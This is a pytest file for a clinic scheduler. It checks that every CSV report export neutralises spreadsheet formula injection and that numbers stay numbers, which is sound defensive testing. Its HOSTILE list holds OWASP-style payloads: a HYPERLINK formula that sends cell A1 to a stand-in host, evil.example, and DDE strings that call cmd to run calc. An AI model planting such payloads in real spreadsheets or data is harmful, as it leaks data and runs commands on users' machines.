"""CSV injection: no export hands a spreadsheet a formula that came from a person.

A clinic whose every free-text field is hostile (series and session titles, client names,
the program's name, attendance notes, plan goals, a cancellation reason), read through every
CSV export the pages link to. Each file is parsed back with Python's csv module.
"""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from scheduler import clock, csv_files
from scheduler.models import Session
from scheduler.services import attendance, booking, plans, sessions
from scheduler.services.audit import Actor

API = "/api/v1"
STAFF = Actor.system("tests")
NY = ZoneInfo("America/New_York")
SETUP = datetime(2027, 2, 16, 12, 0, tzinfo=UTC)
READ_AT = datetime(2027, 3, 12, 12, 0, tzinfo=NY)  # Friday of the second week

# OWASP's examples, and one for each character a cell must not start with.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXPORTS = [
    "weekly-hours?from=2027-03-01&to=2027-03-14",
    "attendance-rates?by=client&from=2027-03-01&to=2027-03-14",
    "attendance-rates?by=series&from=2027-03-01&to=2027-03-14",
    "census?from=2027-03-01&to=2027-03-14",
    "below-target?",
    "follow-up?",
    "billing-days?from=2027-03-01&to=2027-03-14",
]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def ny(month: int, day: int, hour: int) -> datetime:
    return datetime(2027, month, day, hour, tzinfo=NY)


def mark(db, session, marks: dict) -> None:
    """{client: status} on the roster a minute after the end, each with a hostile note."""
    records = [{"client_id": person.id, "status": status, "note": HOSTILE[n % len(HOSTILE)]}
               for n, (person, status) in enumerate(marks.items())]
    for record in records:
        if record["status"] in attendance.NEEDS_REASON:
            record["reason_code"] = "other"
    at = session.ends_at + timedelta(minutes=1)
    with clock.frozen(at):
        attendance.record_roster(db, STAFF, "coordinator", session.id, records, now=at,
                                 policy=attendance.Policy())
    db.commit()


@pytest.fixture
def hostile_clinic(db, make):
    program = make.program(name=HOSTILE[0])
    group = make.series(program, now=SETUP, title=HOSTILE[0], start_date=date(2027, 3, 1),
                        end_date=date(2027, 3, 18))
    absent = make.client(program, name=HOSTILE[2])
    present = make.client(program, name=HOSTILE[3])
    plans.create_plan(db, STAFF, absent.id, start_date=date(2027, 1, 4),
                      certified_on=date(2027, 1, 20), goals=[HOSTILE[1]])
    for person in (absent, present):
        booking.enroll_client(db, STAFF, group.id, person.id, now=SETUP)
    db.commit()
    by_day = {s.starts_at.astimezone(NY).day: s for s in db.scalars(
        select(Session).where(Session.series_id == group.id))}
    for day in (1, 3, 4):
        mark(db, by_day[day], {absent: "present", present: "present"})
    for day in (8, 10, 11):
        mark(db, by_day[day], {absent: "absent_unexcused", present: "present"})
    sessions.change_session(db, STAFF, by_day[15], {"status": "cancelled"}, reason=HOSTILE[4])
    db.commit()
    # One-off sessions on Tuesday morning, each titled with another hostile text.
    for n, title in enumerate(HOSTILE):
        one_off = sessions.create_one_off(
            db, STAFF, now=SETUP, program_id=program.id, kind="group", title=title,
            starts_at=ny(3, 2, 8 + n), ends_at=ny(3, 2, 9 + n), capacity=12)
        booking.book_client(db, STAFF, one_off.id, present.id, now=SETUP)
        db.commit()
        mark(db, one_off, {present: "present"})
    return program


def test_every_csv_export_neutralises_what_a_person_typed(client, auth, hostile_clinic):
    titles_seen = []
    with clock.frozen(READ_AT):
        headers = auth("coordinator")
        for export in EXPORTS:
            answer = client.get(f"{API}/reports/{export}&program_id={hostile_clinic.id}"
                                "&format=csv", headers=headers)
            assert answer.status_code == 200 and answer.mimetype == "text/csv", export
            rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
            assert len(rows) > 1, f"{export}: no rows, so nothing was tested"
            # Only a number the report computed may start so (a shortfall of -1.5).
            assert [value for row in rows for value in row
                    if value.startswith(FORMULA_STARTS) and not is_number(value)] == [], export
            header = rows[0]
            for column in ("title", "series_title"):
                if column in header:
                    titles_seen += [row[header.index(column)] for row in rows[1:]]
    # The titles are there, each behind a quote, whole (the tab and the carriage return too).
    assert {"'" + text for text in HOSTILE} <= set(titles_seen)


def test_a_neutralised_cell_is_quoted_and_numbers_stay_numbers():
    text = csv_files.render(
        [{"title": "=1+1", "shortfall": -1.5, "count": -2, "met": False, "none": None,
          "reasons": ["absence_streak", "review_due"], "note": "-not a number"}],
        ["title", "shortfall", "count", "met", "none", "reasons", "note"])
    assert text.splitlines()[1] == (
        '"\'=1+1",-1.5,-2,False,"","absence_streak;review_due","\'-not a number"')
